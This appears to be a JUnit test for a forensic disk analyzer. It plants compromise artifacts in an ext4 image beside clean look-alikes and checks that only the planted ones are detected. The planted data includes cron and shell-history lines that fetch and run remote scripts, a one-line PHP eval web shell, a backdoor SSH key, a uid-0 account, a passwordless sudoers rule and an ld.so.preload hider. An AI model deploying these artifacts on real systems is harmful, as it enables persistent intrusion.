package io.custody.analyzer.disk;

import static org.assertj.core.api.Assertions.assertThat;

import io.custody.analyzer.testing.Cases;
import io.custody.evidence.Severity;
import io.custody.evidence.Sha256;
import io.custody.evidence.custody.CustodyEntry;
import io.custody.evidence.custody.Outcome;
import io.custody.evidence.segment.Compression;
import io.custody.evidence.workspace.Case;
import io.custody.evidence.workspace.Item;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.FileTime;
import java.nio.file.attribute.PosixFilePermissions;
import java.time.Clock;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Set;
import java.util.stream.Collectors;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.io.TempDir;

/**
 * A Linux root file system built in the test with {@code mkfs.ext4 -d}: one planted example of every
 * disk finding, and clean look-alikes next to them. Every planted item must be found, no look-alike.
 */
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class PlantedImageTest {

  static final Instant WINDOW_START = Instant.parse("2025-01-01T00:00:00Z");
  static final Instant WINDOW_END = Instant.parse("2025-01-31T00:00:00Z");

  Path tmp;
  Path root;
  Case kase;
  Item disk;
  DiskAnalysis.Result result;
  Path image;

  private void file(String path, String content, String perms) throws Exception {
    Path p = root.resolve(path.substring(1));
    Files.createDirectories(p.getParent());
    Files.writeString(p, content);
    if (perms != null) {
      Files.setPosixFilePermissions(p, PosixFilePermissions.fromString(perms));
    }
  }

  private void binary(String path, String perms) throws Exception {
    Path p = root.resolve(path.substring(1));
    Files.createDirectories(p.getParent());
    Files.copy(Path.of("/bin/true"), p);
    Cases.run(tmp, "chmod", perms, p.toString()); // java.nio cannot set the set-user-id bit
  }

  @BeforeAll
  void buildImageAndAnalyse(@TempDir Path dir) throws Exception {
    tmp = dir;
    root = dir.resolve("root");
    // Package database: what the look-alikes belong to.
    file("/var/lib/dpkg/info/cron.list", "/etc/crontab\n/etc/cron.d/e2scrub_all\n", null);
    file("/var/lib/dpkg/info/logrotate.list", "/etc/cron.daily/logrotate\n", null);
    file("/var/lib/dpkg/info/openssh-server.list", "/lib/systemd/system/ssh.service\n/etc/init.d/ssh\n", null);
    file("/var/lib/dpkg/info/passwd.list", "/usr/bin/passwd\n", null);
    // Accounts.
    String base = "root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n"
        + "bob:x:1000:1000:Bob:/home/bob:/bin/bash\n";
    file("/etc/passwd-", base, null);
    file("/etc/passwd", base + "toor:x:0:0::/root:/bin/bash\nbackup2:x:1001:1001::/home/backup2:/bin/bash\n", null);
    file("/etc/shadow", "root:$6$x$y:19000::::::\ndaemon:*:19000::::::\nbob:$6$a$b:19000::::::\n", "rw-r-----");
    file("/etc/group", "root:x:0:\nsudo:x:27:bob\n", null);
    file("/etc/group-", "root:x:0:\nsudo:x:27:bob\n", null);
    file("/etc/sudoers", "Defaults env_reset\nroot ALL=(ALL:ALL) ALL\n%sudo ALL=(ALL:ALL) ALL\n@includedir /etc/sudoers.d\n", "r--r-----");
    file("/etc/sudoers.d/README", "# Files in this folder are read by sudo.\n", "r--r-----");
    file("/etc/sudoers.d/90-backup2", "backup2 ALL=(ALL) NOPASSWD: ALL\n", "r--r-----");
    // SSH.
    file("/root/.ssh/authorized_keys", "command=\"/var/tmp/.x/run\",no-pty ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGNm attacker@evil\n", "rw-------");
    file("/home/bob/.ssh/known_hosts", "github.com ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMq\n", null);
    file("/home/bob/.ssh/id_ed25519.pub", "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIBob bob@laptop\n", null);
    file("/home/bob/.ssh/authorized_keys.example", "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIExample example\n", null);
    // Cron.
    file("/etc/crontab", "SHELL=/bin/sh\n17 * * * * root cd / && run-parts --report /etc/cron.hourly\n", null);
    file("/etc/cron.d/e2scrub_all", "30 3 * * 0 root test -e /run/systemd/system || /usr/lib/x86_64-linux-gnu/e2fsprogs/e2scrub_all_cron\n", null);
    file("/etc/cron.daily/logrotate", "#!/bin/sh\n/usr/sbin/logrotate /etc/logrotate.conf\n", "rwxr-xr-x");
    file("/etc/cron.d/sysupdate", "*/5 * * * * root /usr/bin/sysupdate --quiet\n", null);
    file("/var/spool/cron/crontabs/www-data", "# m h dom mon dow command\n* * * * * curl -s http://203.0.113.7/x.sh | sh\n", "rw-------");
    // systemd.
    file("/lib/systemd/system/ssh.service", "[Unit]\nDescription=OpenBSD Secure Shell server\n[Service]\nExecStart=/usr/sbin/sshd -D\n", null);
    file("/etc/systemd/system/dbus-helper.service", "[Service]\nExecStart=/var/tmp/.dbus/helper\n", null);
    // rc.local and init scripts.
    file("/etc/rc.local", "#!/bin/sh -e\n/usr/local/bin/agent --daemon &\nexit 0\n", "rwxr-xr-x");
    file("/etc/init.d/ssh", "#!/bin/sh\n# ssh init script\nexit 0\n", "rwxr-xr-x");
    // ld.so.preload and its look-alike.
    file("/etc/ld.so.preload", "/usr/lib/x86_64-linux-gnu/libprocesshider.so\n", null);
    file("/etc/ld.so.conf", "include /etc/ld.so.conf.d/*.conf\n", null);
    // SUID.
    binary("/home/bob/.cache/.bash", "4755");
    binary("/usr/bin/passwd", "4755");
    // Miner and its configuration; a clean configuration.
    binary("/opt/.x/xmrig", "755");
    file("/opt/.x/config.json", "{\"donate-level\": 1, \"pools\": [{\"url\": \"stratum+tcp://pool.example:3333\", \"user\": \"44AFF\"}]}\n", null);
    file("/opt/app/config.json", "{\"listen\": \"0.0.0.0:8080\", \"workers\": 4}\n", null);
    // Histories.
    file("/root/.bash_history", "ls\nwget http://198.51.100.9/p -O /tmp/p\nchmod +x /tmp/p\n/tmp/p &\n", "rw-------");
    file("/home/bob/.bash_history", "apt-get install curl\ncurl -o notes.txt https://example.com/notes.txt\ncat notes.txt\n", "rw-------");
    // Web shell and a clean page.
    file("/var/www/html/wp-content/uploads/x.php", "<?php @eval($_POST['c']); ?>\n", null);
    file("/var/www/html/index.php", "<?php echo htmlspecialchars($_GET['q'] ?? ''); ?>\n", null);
    // Programs in temporary folders; clean files there.
    binary("/tmp/.ICE-unix/kworker", "755");
    file("/tmp/notes.txt", "remember the milk\n", null);
    file("/tmp/script.sh", "#!/bin/sh\necho hi\n", "rw-r--r--");
    // The incident window: one file modified inside it, one before.
    file("/usr/local/bin/helper", "#!/bin/sh\necho helper\n", "rwxr-xr-x");
    file("/usr/local/bin/tool", "#!/bin/sh\necho tool\n", "rwxr-xr-x");
    Files.setLastModifiedTime(root.resolve("usr/local/bin/helper"), FileTime.from(Instant.parse("2025-01-15T10:00:00Z")));
    Files.setLastModifiedTime(root.resolve("usr/local/bin/tool"), FileTime.from(Instant.parse("2024-06-01T10:00:00Z")));
    // Everything else: modified long before the window (ctime/crtime are mkfs time, after it).
    try (var s = Files.walk(root)) {
      for (Path p : s.toList()) {
        if (!p.endsWith("helper") && !p.endsWith("tool")) {
          Files.setLastModifiedTime(p, FileTime.from(Instant.parse("2024-03-01T00:00:00Z")));
        }
      }
    }
    image = tmp.resolve("root.ext4");
    Cases.run(tmp, "truncate", "-s", "24M", image.toString());
    Cases.run(tmp, "mkfs.ext4", "-q", "-d", root.toString(), image.toString());
    // Delete one file from the image afterwards so the timeline has a deleted entry.
    Cases.run(tmp, "debugfs", "-w", "-R", "rm /tmp/notes.txt", image.toString());
    kase = Cases.open(tmp.resolve("home"), "PLANTED-1");
    disk = Cases.addDisk(kase, image, "vol-0planted000000001", Compression.ZSTD, 4 << 20);
    result = new DiskAnalysis(Clock.systemUTC()).since(WINDOW_START).until(WINDOW_END).workDir(tmp.resolve("work")).run(kase, disk.id());
  }

  private Set<String> found() {
    return result.report().findings().stream().map(f -> f.ruleId() + " " + f.path()).collect(Collectors.toSet());
  }

  @Test
  void everyPlantedItem_found() {
    result.report().findings().forEach(f -> System.out.println(f.severity() + " " + f.ruleId() + " " + f.path() + " | " + f.excerpt() + " | " + f.reason()));
    assertThat(found()).contains(
        "ssh-authorized-keys /root/.ssh/authorized_keys",
        "cron /var/spool/cron/crontabs/www-data",
        "cron /etc/cron.d/sysupdate",
        "systemd-unit /etc/systemd/system/dbus-helper.service",
        "rc-init /etc/rc.local",
        "ld-so-preload /etc/ld.so.preload",
        "new-or-uid0-user /etc/passwd",
        "sudoers /etc/sudoers.d/90-backup2",
        "suid-sgid-outside-standard-paths /home/bob/.cache/.bash",
        "miner /opt/.x/xmrig",
        "miner /opt/.x/config.json",
        "shell-history /root/.bash_history",
        "web-shell /var/www/html/wp-content/uploads/x.php",
        "temp-executable /tmp/.ICE-unix/kworker",
        "changed-in-window /usr/local/bin/helper");
    assertThat(result.report().findings().stream().filter(f -> f.ruleId().equals("new-or-uid0-user")).map(DiskFinding::excerpt))
        .anySatisfy(e -> assertThat(e).startsWith("toor:x:0:0"))
        .anySatisfy(e -> assertThat(e).startsWith("backup2:x:1001"));
  }

  @Test
  void noLookAlike_flagged() {
    Set<String> flaggedPaths = result.report().findings().stream().map(DiskFinding::path).collect(Collectors.toSet());
    assertThat(flaggedPaths).doesNotContainAnyElementsOf(List.of(
        "/home/bob/.ssh/known_hosts", "/home/bob/.ssh/id_ed25519.pub", "/home/bob/.ssh/authorized_keys.example",
        "/etc/crontab", "/etc/cron.d/e2scrub_all", "/etc/cron.daily/logrotate", "/lib/systemd/system/ssh.service", "/etc/init.d/ssh",
        "/etc/ld.so.conf", "/usr/bin/passwd", "/opt/app/config.json", "/home/bob/.bash_history", "/var/www/html/index.php",
        "/tmp/script.sh", "/etc/sudoers", "/etc/sudoers.d/README", "/etc/group", "/usr/local/bin/tool"));
    List<String> userLines = new ArrayList<>();
    result.report().findings().stream().filter(f -> f.ruleId().equals("new-or-uid0-user")).forEach(f -> userLines.add(f.excerpt()));
    assertThat(userLines).noneMatch(l -> l.startsWith("bob:") || l.startsWith("daemon:") || l.startsWith("root:"));
  }

  @Test
  void findings_carryInodeTimesHashExcerptAndReason() throws Exception {
    DiskFinding web = result.report().findings().stream().filter(f -> f.ruleId().equals("web-shell")).findFirst().orElseThrow();
    assertThat(web.inode()).matches("\\d+");
    assertThat(web.mtime()).isEqualTo("2024-03-01T00:00:00Z");
    assertThat(web.sha256()).isEqualTo(Sha256.digest(Files.readAllBytes(root.resolve("var/www/html/wp-content/uploads/x.php"))));
    assertThat(web.excerpt()).contains("eval($_POST");
    assertThat(web.reason()).isNotBlank();
    assertThat(web.severity()).isEqualTo(Severity.CRITICAL);
  }

  @Test
  void outputs_areAnalysisItems_recordedAsAnalysed() {
    assertThat(result.outputs()).extracting(Item::name).containsExactlyInAnyOrder("bodyfile-disk.txt", "timeline.csv", "disk-findings.json");
    assertThat(result.outputs()).allSatisfy(i -> assertThat(i.type().label()).isEqualTo("analysis"));
    List<CustodyEntry> analysed = kase.log().verify().entries().stream().filter(e -> e.event().equals("analysed")).toList();
    assertThat(analysed).extracting(CustodyEntry::outcome).containsExactly(Outcome.INTENT, Outcome.SUCCEEDED);
    assertThat(analysed.get(0).objects().get(0).sha256()).isEqualTo(disk.hashes().sha256());
    assertThat(analysed.get(1).objects()).hasSize(3);
    assertThat(kase.log().verify().intact()).isTrue();
  }

  @Test
  void bodyfileAndTimeline_matchFlsAndMactime() throws Exception {
    Item body = result.outputs().stream().filter(i -> i.name().startsWith("bodyfile")).findFirst().orElseThrow();
    Item timeline = result.outputs().stream().filter(i -> i.name().equals("timeline.csv")).findFirst().orElseThrow();
    String fls = Cases.run(tmp, "fls", "-r", "-m", "/", image.toString());
    assertThat(Files.readString(Cases.file(kase, body), java.nio.charset.StandardCharsets.ISO_8859_1)).isEqualTo(fls);
    assertThat(fls).contains("/tmp/notes.txt (deleted)");
    Path flsBody = Files.writeString(tmp.resolve("fls.body"), fls, java.nio.charset.StandardCharsets.ISO_8859_1);
    String mactime = Cases.mactime(tmp, flsBody);
    assertThat(Files.readString(Cases.file(kase, timeline), java.nio.charset.StandardCharsets.ISO_8859_1)).isEqualTo(mactime);
  }

  @Test
  void tamperedSegment_refused() throws Exception {
    Case other = Cases.open(tmp.resolve("home2"), "PLANTED-2");
    Item d = Cases.addDisk(other, image, "vol-0planted000000002", Compression.NONE, 8 << 20);
    Path seg = other.dir().resolve(d.dir()).resolve(d.segments().get(1).file());
    seg.toFile().setWritable(true);
    byte[] b = Files.readAllBytes(seg);
    b[100] ^= 1;
    Files.write(seg, b);
    org.assertj.core.api.Assertions.assertThatThrownBy(() -> new DiskAnalysis(Clock.systemUTC()).workDir(tmp.resolve("work2")).run(other, d.id()))
        .isInstanceOf(io.custody.evidence.IntegrityException.class).hasMessageContaining(d.segments().get(1).file());
    List<CustodyEntry> analysed = other.log().verify().entries().stream().filter(e -> e.event().equals("analysed")).toList();
    assertThat(analysed).extracting(CustodyEntry::outcome).containsExactly(Outcome.INTENT, Outcome.FAILED);
  }
}
